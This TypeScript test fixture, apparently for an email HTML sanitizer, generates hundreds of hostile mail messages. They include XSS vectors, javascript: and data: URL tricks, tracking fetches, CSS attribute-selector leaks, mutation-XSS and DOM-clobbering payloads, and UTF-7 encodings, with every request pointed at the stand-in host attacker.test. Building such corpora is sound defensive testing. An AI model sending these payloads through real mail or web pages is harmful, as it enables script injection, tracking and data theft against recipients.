/**
 * HTML mail that wants to run a script, to tell somebody that it is read, to take over the page, or to be taken for
 * something else. Written from what sanitizers and browsers have got wrong: OWASP's and Cure53's lists of vectors,
 * mutation XSS, DOM clobbering, leaks by style sheets. Each one asks for HOST or runs SCRIPT when it wins.
 */
import { Buffer } from 'node:buffer';
import iconv from 'iconv-lite';

/** Nobody may ever be asked for it. */
export const HOST = 'attacker.test';
/** What a script does that runs: a dialog and a request. */
export const SCRIPT = `alert(1);fetch('https://${HOST}/script')`;

const U = `https://${HOST}/x`;
const J = SCRIPT;
/** In an attribute between double quotes. */
const Q = J.replaceAll('"', '&quot;');

const SCRIPTS: readonly string[] = [
  `<script>${J}</script>`,
  `<SCRIPT SRC=${U}.js></SCRIPT>`,
  `<script/x>${J}</script>`,
  `<script\n>${J}</script\n>`,
  `<scr<script>ipt>${J}</scr</script>ipt>`,
  `<<SCRIPT>${J}//<</SCRIPT>`,
  `<script>a=1</script foo><script>${J}`,
  `<script type="module">import "${U}.js"</script>`,
  `<script type="text/vbscript">MsgBox 1</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${J}>"></noscript>`,
  `<template><script>${J}</script></template>`,
  `<style><script>${J}</script></style>`,
  `<title><script>${J}</script></title>`,
  `<textarea><script>${J}</script></textarea>`,
  `<xmp><script>${J}</script></xmp>`,
  `<plaintext><script>${J}</script>`,
  `<!--><script>${J}</script>-->`,
  `<!-- --!><script>${J}</script> -->`,
  `<![CDATA[<script>${J}</script>]]>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${J}</script>`,
  `<comment><img src="</comment><img src=x onerror=${J}>">`,
  `<!DOCTYPE html [<!ENTITY x "<script>${J}</script>">]>&x;`,
];

const HANDLERS: readonly string[] = [
  ...[
    'onload',
    'onerror',
    'onfocus autofocus tabindex=1',
    'onpointerrawupdate',
    'onmouseover',
    'onanimationstart style="animation:x 1ms"',
    'ontransitionend style="transition:all 1ms"',
    'ontoggle open',
    'onbeforeinput contenteditable autofocus',
    'onscrollsnapchange',
    'oncontentvisibilityautostatechange style="display:block;content-visibility:auto"',
    'onbeforematch hidden=until-found',
    'onsecuritypolicyviolation',
  ].map((handler) => {
    const [name = '', ...more] = handler.split(' ');
    return `<div ${name}="${Q}" ${more.join(' ')}>x</div>`;
  }),
  `<img src=x onerror="${Q}">`,
  `<img src=x onerror='${J.replaceAll("'", '&#39;')}'>`,
  `<img src=x onerror=${J.replaceAll("'", '`')}>`,
  `<img src=x oNeRrOr="${Q}">`,
  `<img src=x\tonerror="${Q}">`,
  `<img src=x\nonerror\n=\n"${Q}">`,
  `<img/src=x/onerror="${Q}">`,
  `<img src="x"onerror="${Q}">`,
  `<img src=x \0onerror="${Q}">`,
  `<img src=x on\0error="${Q}">`,
  `<img src=x =onerror="${Q}">`,
  `<img src=x '"onerror="${Q}">`,
  `<img src=x <onerror="${Q}">`,
  `<img """><script>${J}</script>">`,
  `<IMG SRC=# onmouseover="${Q}">`,
  `<img src onerror="${Q}">`,
  `<image src=x onerror="${Q}">`,
  `<input onfocus="${Q}" autofocus>`,
  `<select onfocus="${Q}" autofocus></select>`,
  `<textarea onfocus="${Q}" autofocus></textarea>`,
  `<keygen onfocus="${Q}" autofocus>`,
  `<video><source onerror="${Q}"></video>`,
  `<video src=x onerror="${Q}"></video>`,
  `<audio src=x onerror="${Q}"></audio>`,
  `<body onload="${Q}">`,
  `<body onpageshow="${Q}">`,
  `<body onhashchange="${Q}"><a href="#x">x</a>`,
  `<frameset onload="${Q}">`,
  `<details open ontoggle="${Q}"><summary>x</summary></details>`,
  `<marquee onstart="${Q}">x</marquee>`,
  `<svg onload="${Q}">`,
  `<svg/onload=${J.replaceAll("'", '`')}>`,
  `<object onerror="${Q}" data=x></object>`,
  `<embed onload="${Q}" src=x>`,
  `<iframe onload="${Q}"></iframe>`,
  `<style onload="${Q}"></style>`,
  `<link rel=stylesheet href=x onerror="${Q}">`,
  `<dialog open onclose="${Q}">x</dialog>`,
  `<button popovertarget=p>x</button><div popover id=p onbeforetoggle="${Q}">x</div>`,
  `<p title='"><img src=x onerror="${Q}">'>x</p>`,
];

const ADDRESSES: readonly string[] = [
  `javascript:${J}`,
  `JaVaScRiPt:${J}`,
  ` javascript:${J}`,
  `\u0001javascript:${J}`,
  `java\tscript:${J}`,
  `java\nscript:${J}`,
  `jav&#x09;ascript:${Q}`,
  `jav&#x0A;ascript:${Q}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${Q}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${Q}`,
  `&#0000106avascript:${Q}`,
  `javascript&colon;${Q}`,
  `javascript&#58;${Q}`,
  `java&Tab;script&NewLine;:${Q}`,
  `javascript://%0a${Q}`,
  `javascript:javascript:${Q}`,
  `data:text/html,<script>${Q}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${J}</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>`,
  `data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>`,
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'jar:https://attacker.test/x!/y',
  'view-source:https://attacker.test',
  'filesystem:https://attacker.test/x',
  'blob:https://attacker.test/x',
  'about:blank',
  'ms-its:https://attacker.test/x',
  '/session',
  '//attacker.test/x',
  '\\\\attacker.test\\x',
  '/\\attacker.test/x',
  'cid:../../session',
  'https:attacker.test/x',
];

/** Where an address can stand that is followed without being asked. */
const PLACES: ReadonlyArray<(address: string) => string> = [
  (a) => `<a href="${a}">click me</a>`,
  (a) => `<img src="${a}">`,
  (a) => `<iframe src="${a}"></iframe>`,
  (a) => `<form action="${a}"><input type=image src="${a}"><button formaction="${a}">x</button></form>`,
  (a) => `<svg><a xlink:href="${a}"><text y=20>click me</text></a></svg>`,
  (a) => `<math href="${a}">click me</math>`,
  (a) => `<area href="${a}" shape=default><map name=m></map>`,
  (a) => `<table background="${a}"><td background="${a}">x</td></table>`,
  (a) => `<object data="${a}"></object><embed src="${a}">`,
  (a) => `<base href="${a}"><a href="x">click me</a><img src="x">`,
  (a) => `<meta http-equiv="refresh" content="0;url=${a}">`,
  (a) => `<link rel="stylesheet" href="${a}"><link rel=prefetch href="${a}">`,
];

const FETCHES: readonly string[] = [
  `<img src="${U}">`,
  `<img srcset="${U} 2x" src=x>`,
  `<img lowsrc="${U}" dynsrc="${U}" longdesc="${U}">`,
  `<picture><source srcset="${U}"><img src=x></picture>`,
  `<input type=image src="${U}">`,
  `<video poster="${U}"><track src="${U}"></video>`,
  `<audio src="${U}" autoplay></audio>`,
  `<body background="${U}">`,
  `<table background="${U}"><tr background="${U}"><td background="${U}">x</table>`,
  `<link rel=dns-prefetch href="//${HOST}"><link rel=preconnect href="${U}"><link rel=preload as=image href="${U}">`,
  `<link rel=icon href="${U}"><link rel=manifest href="${U}">`,
  `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="${U}">x</a>`,
  `<meta http-equiv="Content-Security-Policy" content="img-src *; report-uri ${U}"><img src="${U}">`,
  `<meta name=referrer content=unsafe-url><img src="${U}">`,
  `<iframe src="${U}"></iframe><frame src="${U}">`,
  `<iframe srcdoc="&lt;img src=${U}&gt;"></iframe>`,
  `<portal src="${U}"></portal><fencedframe src="${U}"></fencedframe>`,
  `<object data="${U}"><img src="${U}"></object><applet code="${U}"></applet>`,
  `<svg><image href="${U}" /><use href="${U}#x" /><feImage href="${U}" /></svg>`,
  `<svg><style>@import '${U}';</style><font-face-uri href="${U}"/></svg>`,
  `<math><mglyph src="${U}"></math>`,
  `<bgsound src="${U}"><layer src="${U}"></layer><ilayer src="${U}"></ilayer>`,
  `<xml src="${U}" id=x></xml><div datasrc=#x datafld=b></div>`,
  `<a href="https://e.example/" ping="${U}">click me</a>`,
  `<a href="#x" attributionsrc="${U}">x</a><img attributionsrc="${U}" src=x>`,
  `<script src="${U}" async></script><script type=speculationrules>{"prefetch":[{"source":"list","urls":["${U}"]}]}</script>`,
  `<html manifest="${U}"><head profile="${U}">`,
  `<q cite="${U}">x</q><blockquote cite="${U}">x</blockquote><del cite="${U}">x</del>`,
  `<img src=x usemap="${U}"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${U}'/></svg>">`,
];

const STYLES: readonly string[] = [
  `background:url(${U})`,
  `background:url('${U}')`,
  `background:u\\72l(${U})`,
  `background:\\75 rl("${U}")`,
  `background:/**/url(${U})`,
  `background:url(/**/${U})`,
  `background:URL( "${U}" )`,
  `background-image:image-set("${U}" 1x)`,
  `background-image:-webkit-image-set(url(${U}) 1x)`,
  `background-image:cross-fade(url(${U}),red)`,
  `background-image:element(#x)`,
  `list-style:url(${U})`,
  `list-style-image:url(${U})`,
  `cursor:url(${U}),auto`,
  `content:url(${U})`,
  `border-image:url(${U}) 1`,
  `border-image-source:url(${U})`,
  `mask:url(${U})`,
  `-webkit-mask-image:url(${U})`,
  `filter:url(${U}#x)`,
  `clip-path:url(${U}#x)`,
  `shape-outside:url(${U})`,
  `src:url(${U})`,
  `offset-path:url(${U})`,
  `behavior:url(${U}.htc)`,
  `-moz-binding:url(${U}#x)`,
  `width:expression(${J})`,
  `width:exp/*x*/ression(${J})`,
  `xss:\\65xpression(${J})`,
  `background:url(javascript:${J})`,
  `--x:url(${U});background:var(--x)`,
  `color:red;}*{background:url(${U})`,
  `font-family:"x;background:url(${U})`,
  `font-family:'\\27;background:url(${U});`,
  `position:fixed;inset:0;z-index:9999;background:#fff`,
  `position:absolute;top:-9999px`,
  `@import url(${U})`,
  `background:red url( ${U} ) !important`,
  `background:url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")`,
];

const SHEETS: readonly string[] = [
  `@import "${U}";`,
  `@import url(${U}) screen;`,
  `@\\69mport "${U}";`,
  `@charset "x";@import '${U}';`,
  `</style><script>${J}</script>`,
  `<!--</style><img src=x onerror="${Q}">-->`,
  `@font-face{font-family:x;src:url(${U})}*{font-family:x}`,
  `input[value^="a"]{background:url(${U}?a)}`,
  `a[href*="token"]::after{content:url(${U})}`,
  `*{background:url(${U})}`,
  `p{background:u\\rl(${U})}`,
  `@media all{p{background:url(${U})}}`,
  `@supports(display:block){p{background:url(${U})}}`,
  `@layer x{p{background:url(${U})}}`,
  `@container (width>0){p{background:url(${U})}}`,
  `p{&{background:url(${U})}}`,
  `@namespace url(${U});`,
  `@document url(${U}){p{color:red}}`,
  `@property --x{syntax:"<url>";inherits:true;initial-value:url(${U})}`,
  `@counter-style x{symbols:url(${U})}`,
  `@keyframes x{from{background:url(${U})}}p{animation:x 1s}`,
  `@view-transition{navigation:auto}::view-transition{background:url(${U})}`,
  `body{-moz-binding:url(${U})}`,
  `"}"{}*{background:url(${U})}`,
  `/*}*/p{color:red;/*;background:url(${U})*/background:url(${U})}`,
  `html,body,#app{display:none!important;position:fixed}`,
  `[data-mail-fold]{display:none}.penfold-leads-to{display:none}`,
  `p:has(> a){background:url(${U})}`,
];

/** Trees that change when a browser reads again what a sanitizer wrote. */
const MUTATIONS: readonly string[] = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${Q}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src onerror="${Q}">`,
  `<svg></p><style><a id="</style><img src=x onerror=${Q}>">`,
  `<svg><desc><noscript>&lt;/noscript&gt;&lt;img src=x onerror="${Q}"&gt;</noscript></desc></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${Q}">`,
  `<table><td></tr><svg><style><img src=x onerror="${Q}"></style></svg></table>`,
  `<svg><foreignObject><iframe srcdoc="<script>${Q}</script>"></foreignObject></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${Q}"></style></annotation-xml></math>`,
  `<svg><script>&#97;lert(1)</script></svg>`,
  `<svg><animate onbegin="${Q}" attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${Q}" /><text>click me</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${Q}"/>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/>`,
  `<svg><title><style><img src=x onerror="${Q}"></style></title></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><handler ev:event="load">${J}</handler></svg>`,
  `<listing>&lt;img src=x onerror="${Q}"&gt;</listing>`,
  `<noembed><img title="</noembed><img src=x onerror=${Q}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${Q}>"></noframes>`,
  `<select><style></select><img src=x onerror="${Q}"></style></select>`,
  `<select><template shadowrootmode=open><script>${J}</script></template></select>`,
  `<div><template shadowrootmode="open"><img src=x onerror="${Q}"></template></div>`,
  `<p>\u2028<img src=x onerror="${Q}">`,
  `<a href="https://e.example/\u0000" title="\`><img src=x onerror=${Q}>">x</a>`,
  `<img src="x\`&quot;'><img src=x onerror=${Q}>">`,
  `<a title="&quot;&gt;&lt;img src=x onerror=${Q}&gt;">x</a>`,
  `<p id="</p><img src=x onerror=${Q}>">x</p>`,
  `<p class='"><img src=x onerror=${Q}>'>x</p>`,
  `<font color='"><img src=x onerror="${Q}">'>x</font>`,
  `<td width='1"><img src=x onerror="${Q}">'>x`,
  `<p lang='en" onmouseover="${Q}'>x</p>`,
  `<p style='color:red" onmouseover="${Q}'>x</p>`,
  `<x-element><template><img src=x onerror="${Q}"></template></x-element>`,
  `<isindex action="javascript:${Q}" type=image>`,
  `<?php echo "<img src=x onerror='alert(1)'>" ?>`,
  `<%<script>${J}</script>%>`,
  `{{constructor.constructor('${J.replaceAll("'", '"')}')()}}`,
  `\${${J}}`,
];

const CLOBBERING: readonly string[] = [
  `<form id=body><input name=style><input name=attributes></form>`,
  `<img name=body><img name=documentElement><img name=head><img name=getElementById><img name=querySelectorAll>`,
  `<img name=createElement><img name=defaultView><img name=links><img name=createRange>`,
  `<a id=app></a><a id=app name=x href="https://attacker.test"></a>`,
  `<form id=x><output name=ownerDocument>x</output></form>`,
  `<iframe name=top></iframe><iframe name=parent></iframe><object name=self></object>`,
  `<p id=__proto__>x</p><p id=constructor>x</p><p class="__proto__ constructor">x</p>`,
  `<p data-mail-fold=quote data-mail-shows="bank.example" data-filled data-dark>x</p>`,
  `<div data-mail-body class=penfold-leads-to>leads to bank.example</div>`,
  `<meta name=csp-nonce content=x><meta charset=utf-7><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>`,
];

/** All of them, each once. */
export const VECTORS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES.flatMap((address, i) => [0, 1, 2].map((k) => PLACES[(i * 3 + k) % PLACES.length]!(address))),
  ...ADDRESSES.map((address) => PLACES[0]!(address)),
  ...FETCHES,
  ...STYLES.flatMap((style) => [
    `<p style="${style.replaceAll('"', '&quot;')}">x</p>`,
    `<style>p{${style}}</style><p>x</p>`,
  ]),
  ...SHEETS.map((sheet) => `<style>${sheet}</style><p>x</p>`),
  ...MUTATIONS,
  ...CLOBBERING,
];

const HEADER = 'From: mallory@attacker.test\r\nMIME-Version: 1.0\r\n';
type Wrap = (html: string) => Buffer;
const encoded =
  (charset: string, encoding: 'base64' | '8bit'): Wrap =>
  (html) => {
    const body = iconv.encode(html, charset);
    const head = `${HEADER}Content-Type: text/html; charset=${charset}\r\nContent-Transfer-Encoding: ${encoding}\r\n\r\n`;
    return Buffer.concat([
      Buffer.from(head),
      encoding === 'base64' ? Buffer.from((body.toString('base64').match(/.{1,76}/g) ?? []).join('\r\n')) : body,
      Buffer.from('\r\n'),
    ]);
  };
const WRAPS: readonly Wrap[] = [
  encoded('utf-8', '8bit'),
  encoded('utf-8', 'base64'),
  encoded('utf-16le', 'base64'),
  encoded('utf-7', '8bit'),
  encoded('shift_jis', 'base64'),
  // Cut off in the middle of everything.
  (html) => encoded('utf-8', '8bit')(`<table><tr><td><b>${html}<a href="`),
  (html) => encoded('utf-8', '8bit')(`<html><head><style>p{color:red</style><body><div><p>${html}</html>${html}`),
];

/** A message for each vector, in one of several dresses. */
export function hostileMails(): Array<{ readonly name: string; readonly bytes: Buffer }> {
  return VECTORS.map((html, i) => ({
    name: `vector ${i}: ${html.slice(0, 60)}`,
    bytes: WRAPS[i % WRAPS.length]!(html),
  }));
}
